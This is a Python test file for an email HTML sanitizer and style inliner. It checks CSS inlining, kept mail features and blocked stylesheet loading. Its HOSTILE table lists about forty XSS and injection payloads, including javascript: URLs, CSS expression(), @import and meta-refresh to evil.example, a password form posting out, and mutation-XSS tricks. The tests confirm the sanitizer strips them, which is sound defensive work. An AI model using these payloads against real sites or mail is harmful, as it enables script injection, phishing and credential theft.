# ruff: noqa: E501 - hostile pages in one line each
"""HTML of mails as it is sent: inlined styles, what real mails need, and nothing that runs code or loads documents."""

import asyncio
import re
from html import escape
from pathlib import Path

import pytest

from activities.rendering.html.final import MAX_CHARACTERS, PageTooLarge, append_to_body, finish, is_small
from activities.rendering.html.sanitizer import ATTRIBUTES, ELEMENTS
from activities.rendering.renderer import Renderer
from bellwire.errors import TemplateInvalid
from tests.factories import event, send_request, subscription

PAGE = """<!doctype html><html><head><title>t</title><style>
h1 { color: red } .total > td { padding: 4px } p:hover { color: green } @media (max-width: 9px) { h1 { color: blue } }
</style></head><body><h1>Paid</h1><table><tr class="total"><td>Total</td><td>19.90</td></tr></table></body></html>"""
#: The parts of real mails: what senders of transactional mail write, and what mail readers need.
XHTML = '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">'
MAIL = f"""{XHTML}
<html xmlns="http://www.w3.org/1999/xhtml" lang="ar" dir="rtl"><head>
<meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1">
<meta name="viewport" content="width=device-width, initial-scale=1"><meta name="color-scheme" content="light dark">
<meta name="x-apple-disable-message-reformatting"><title>Order &lt;42&gt;</title>
<!--[if mso]><style>td {{ font-family: Arial }}</style><![endif]-->
<style>@media screen and (max-width:600px) {{ .wide {{ width: 100% !important }} }} a:hover {{ color: #f00 !important }}
@media (prefers-color-scheme: dark) {{ body {{ background: #000 !important }} }}
@font-face {{ font-family: X; src: url(https://fonts.example/x.woff2) format("woff2") }} td {{ mso-line-height-rule: exactly }}</style>
</head><body bgcolor="#f4f5f7" style="margin:0;padding:0" link="#00f">
<table role="presentation" width="600" cellpadding="0" cellspacing="0" border="0" align="center" class="wide" bgcolor="#ffffff">
<tr><td valign="top" colspan="2" background="https://x.example/bg.png" style="background-image:url('https://x.example/bg.png')">
<img src="https://x.example/a.png" srcset="https://x.example/a.png 1x, https://x.example/b.png 2x" width="10" height="10" alt="Logo">
<font face="Arial" size="2" color="#333333">Hi</font> <a href="https://x.example/?a=1&amp;b=2" target="_blank" title="Go">go</a>
<center>c</center><h2>h</h2><hr><ol start="3"><li>x</li></ol><time datetime="2026-01-01">t</time></td></tr></table></body></html>"""


def test_styles_are_inlined_and_media_queries_and_hover_rules_stay() -> None:
    page = finish(PAGE).html
    assert '<h1 style="color: red' in page
    assert page.count('<td style="padding: 4px') == 2
    assert re.search(r"@media \(max-width: 9px\) \{ h1 \{ color: blue *\} \}", page)
    assert "p:hover { color: green }" in page
    assert "color: red }" not in page


def test_a_part_of_a_page_stays_a_part() -> None:
    assert finish("<p>Hi").html == "<p>Hi</p>"


def test_what_real_mails_need_is_kept() -> None:
    page = finish(MAIL).html
    assert page.startswith(XHTML)
    assert '<html lang="ar" dir="rtl">' in page
    assert '<meta charset="utf-8">' in page
    assert "iso-8859-1" not in page
    assert '<meta name="viewport" content="width=device-width, initial-scale=1">' in page
    assert '<meta name="color-scheme" content="light dark">' in page
    assert '<meta name="x-apple-disable-message-reformatting" content="">' in page
    assert "<title>Order &lt;42&gt;</title>" in page
    for rule in (
        ".wide { width: 100% !important }",
        "a:hover { color: #f00 !important }",
        "prefers-color-scheme: dark",
    ):
        assert rule in page
    assert "@font-face { font-family: X; src: url(https://fonts.example/x.woff2)" in page
    assert '<body bgcolor="#f4f5f7" style="margin:0;padding:0" link="#00f">' in page
    body = page.partition("<body")[2]
    for part in (
        *('role="presentation"', 'width="600"', 'cellpadding="0"', 'cellspacing="0"', 'border="0"', 'align="center"'),
        *('class="wide"', 'bgcolor="#ffffff"', 'valign="top"', 'colspan="2"', 'background="https://x.example/bg.png"'),
        *(
            "mso-line-height-rule: exactly",
            "background-image: url(&quot;https://x.example/bg.png&quot;)",
            'alt="Logo"',
            'srcset="https://x.example/a.png 1x',
        ),
        *(
            'face="Arial"',
            'color="#333333"',
            'href="https://x.example/?a=1&amp;b=2"',
            'target="_blank"',
            "<center>",
            "<hr>",
        ),
        *('<ol start="3">', '<time datetime="2026-01-01">'),
    ):
        assert part in body, part
    assert page.endswith("</body></html>")
    assert "mso]" not in page
    assert "font-family: Arial" not in page


@pytest.mark.parametrize(
    "page", ["<style>", "<style>}}}{{{</style><p>a", "<style>a{b:c", "<div>" * 3000 + "<style>p{}</style>"]
)
def test_invalid_css_does_not_fail(page: str) -> None:
    assert finish(page).html


async def test_no_style_sheet_is_loaded_from_the_network_or_the_disk(tmp_path: Path) -> None:
    requests = []

    async def respond(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        requests.append(await reader.readline())
        writer.close()

    (tmp_path / "a.css").write_text("p { color: red }")
    server = await asyncio.start_server(respond, "127.0.0.1", 0)
    url = f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}/a.css"
    async with server:
        for place in (url, (tmp_path / "a.css").as_uri(), str(tmp_path / "a.css")):
            sheet = f'<link rel="stylesheet" href="{place}"><style>@import "{place}"; b {{ color: blue }}</style>'
            html = f"<html><head>{sheet}</head><body><p>a<b>c</b></body></html>"
            page = (await asyncio.to_thread(finish, html)).html
            assert '<b style="color: blue' in page
            assert "<p>" in page
            assert place not in page
    assert requests == []


def test_html_is_appended_at_the_end_of_the_body() -> None:
    page = finish("<body>a</BODY ></html>").html
    assert append_to_body(page, "<p>b</p>").endswith("a<p>b</p></body></html>")
    assert append_to_body("a", "<p>b</p>") == "a<p>b</p>"


#: Pages in which something dangerous hides, each with words that the final page must not contain.
HOSTILE = {
    "a quote of an attribute earlier": ('<img alt="{}"><a href="javascript:alert(1)">x</a>', "javascript"),
    "a URL in <style>": ("<style>td{background:url('javascript:alert(1)')}</style><table><tr><td>a</table>", "javascript"),
    "a URL in <style> that is not inlined": ("<style>td:hover{background:url(javascript:alert(1))}</style><p>", "javascript"),
    "a URL in a media query": ("<style>@media all{p{background:url(data:text/html,x)}}</style><p>", "data:"),
    "an escaped URL": ("<style>p:hover{background:u\\72l(java\\73 cript:alert(1))}</style><p>", "alert"),
    "a URL behind a comment": ("<div style='background:url/**/(javascript:alert(1))'>x</div>", "alert"),
    "image-set": ("<style>p:hover{background:image-set('javascript:alert(1)' 1x)}</style><p>", "javascript"),
    "image-set with a vendor's prefix": ("<p style=\"background:-webkit-image-set('data:image/svg+xml,x' 1x)\">x", "data:"),
    "a URL in a variable": ("<style>p:hover{--a:url(javascript:alert(1))}</style><p>", "javascript"),
    "expression": ("<style>p{width:expression(alert(1))}</style><p>x", "alert"),
    "expression with escapes": ("<p style='width:e\\78pression(alert(1))'>x", "alert"),
    "expression with a comment": ("<p style='width:exp/**/ression(alert(1))'>x", "alert"),
    "@import": ("<style>@import 'https://evil.example/x.css'; p:hover{color:red}</style><p>", "evil"),
    "@import with url()": ("<style>@import url(https://evil.example/x.css);p:hover{color:red}</style><p>", "evil"),
    "behavior": ("<style>p{behavior:url(https://evil.example/x.htc)}</style><p>x", "evil"),
    "-moz-binding": ("<p style='-moz-binding:url(https://evil.example/x.xml#x)'>x", "evil"),
    "an Internet Explorer filter": ("<p style=\"filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='javascript:x')\">x", "javascript"),
    "the end of <style> in a string": ("<style>p:hover::after{content:'\\3c/style><script>alert(1)</script>'}</style><p>x", "alert"),
    "<style> in the body": ("<p>a<style>b:hover{background:url(vbscript:x)}</style>", "vbscript"),
    "meta refresh": ('<meta http-equiv="refresh" content="0; url=https://evil.example"><p>x', "evil"),
    "meta refresh in the head": ("<head><meta http-equiv=Refresh content='0;url=javascript:x'></head><body><p>x", "javascript"),
    "base": ('<head><base href="https://evil.example/"></head><body><a href="pay">x</a>', "evil"),
    "base in the body": ('<p><base href="https://evil.example/"><a href="pay">x</a>', "evil"),
    "an SVG animation": ('<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>', "alert"),
    "an SVG set": ('<svg><a id=a href="#"><set attributeName="href" to="javascript:alert(1)"/></a></svg>', "alert"),
    "an SVG style": ("<svg><style>*{background:url(javascript:alert(1))}</style></svg><p>x", "javascript"),
    "srcdoc": ('<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe><p>x', "alert"),
    "srcset": ('<img srcset="https://app.example/1.png 1x, javascript:alert(1) 2x">', "javascript"),
    "a form": ('<form action="https://evil.example"><input name="password"><button formaction="https://evil.example">x</form>', "evil"),
    "an event handler": ("<img src=x onerror=alert(1)><body onload=alert(1)>", "alert"),
    "a script": ("<p>a<script>alert(1)</script><script src=https://evil.example></script>", "alert"),
    "MathML": ('<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>', "javascript"),
    "mutation by namespaces": ("<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">", "<img src"),
    "mutation by noscript": ('<noscript><p title="</noscript><img src=x onerror=alert(1)>">', "onerror"),
    "the attributes of body": ("<body background='javascript:alert(1)' style='background:url(javascript:x)' onload=alert(1)>x", "javascript"),
    "the attributes of html": ("<html onclick=alert(1) manifest=https://evil.example/m><body>x", "evil"),
    "a conditional comment": ("<!--[if mso]><a href='javascript:alert(1)'>x</a><![endif]--><p>x", "alert"),
    "a downlevel-revealed comment": ("<![if !mso]><a href='javascript:alert(1)'>x</a><![endif]>", "alert"),
    "control characters that are removed later": ("<a href='java&#1;script:alert(1)'>x</a>", "script:"),
    "direction marks that are removed later": ("<a href='java\u202escript:alert(1)'>x</a>", "script:"),
    "a byte order mark within a scheme": ("<a href='java\ufeffscript:alert(1)'>x</a>", "script:"),
    "a link to a style sheet": ("<link rel=stylesheet href=https://evil.example/x.css><style>p:hover{color:red}</style><p>x", "evil"),
    "an object": ("<object data='https://evil.example/x.swf'><embed src='https://evil.example/x.swf'></object><p>x", "evil"),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
@pytest.mark.parametrize(
    "around", ["{}", "<!doctype html><html><head><style>i{{}}</style></head><body>{}</body></html>"]
)
def test_nothing_dangerous_is_left_on_the_final_page(name: str, around: str) -> None:
    html, word = HOSTILE[name]
    page = finish(around.format(html)).html
    assert word not in page.lower(), page
    assert page == finish(page).html or "<style>" in page


@pytest.mark.parametrize("name", HOSTILE)
async def test_nothing_dangerous_is_left_in_a_mail_whatever_its_template(name: str, tmp_path: Path) -> None:
    (tmp_path / "a").mkdir()
    (tmp_path / "a" / "email.html").write_text('<img alt="{{ data.a }}"><div>{{ data.html | safe }}</div>')
    html, word = HOSTILE[name]
    published = event(type="a", data={"a": '">', "html": html})
    to = subscription({"channel": "email", "to": "ann@example.com"})
    mail = await Renderer(tmp_path).email(send_request(to, published))
    assert mail.html is not None
    assert word not in mail.html.lower()


def test_only_listed_elements_and_attributes_are_left() -> None:
    dangerous = {
        "script",
        "style",
        "iframe",
        "object",
        "embed",
        "base",
        "meta",
        "link",
        "form",
        "input",
        "svg",
        "math",
        "template",
    }
    assert not dangerous & ELEMENTS
    assert not {name for name in ATTRIBUTES if name.startswith("on")} | {"srcdoc", "action", "formaction"} & ATTRIBUTES
    body = finish("".join(f"<{name}>x</{name}>" for name in sorted(dangerous | {"blink", "o:p", "x-y"}))).html
    assert set(re.findall(r"<([a-z:-]+)", body.partition("<body>")[2])) <= ELEMENTS


def test_text_that_only_looks_dangerous_is_kept() -> None:
    text = 'Write href="javascript:alert(1)" & <script> in url(data:x)'
    assert finish(f"<p>{escape(text)}</p>").text == text


def test_a_page_that_grows_too_much_is_refused() -> None:
    rules = "".join(f".a{{--v{number}:{'x' * 90}}}" for number in range(100))
    with pytest.raises(PageTooLarge, match=f"more than {MAX_CHARACTERS:,} characters"):
        finish(f"<style>{rules}</style>" + '<p class="a">x' * 1000)


async def test_a_large_page_of_an_operator_is_finished_in_a_child_within_its_limits(tmp_path: Path) -> None:
    (tmp_path / "a").mkdir()
    rules = "\n".join(f"p {{ --v{number}: {number} }}" for number in range(900))
    (tmp_path / "a" / "email.html").write_text(
        f"<style>{rules}</style>{{% for item in data %}}<p>{{{{ item }}}}{{% endfor %}}"
    )
    renderer, to = Renderer(tmp_path), subscription({"channel": "email", "to": "ann@example.com"})
    try:
        short = await renderer.email(send_request(to, event(type="a", data=["one"])))
        assert '<p style="--v0: 0;' in (short.html or "")
        assert short.text == "one\n"
        with pytest.raises(TemplateInvalid, match=r"too large|took too long"):
            await renderer.email(send_request(to, event(type="a", data=["x"] * 6_000)))
        long = await renderer.email(send_request(to, event(type="a", data=["two"])))
        assert long.text == "two\n"
    finally:
        await renderer.close()


def test_pages_that_slow_parsers_down_are_not_small() -> None:
    assert is_small("<p>Hello</p>" * 100)
    for html in ("<b>" * 301, "x" * 40_000, "<p>x" * 100 + "<style>" + "a{}" * 100):
        assert not is_small(html)
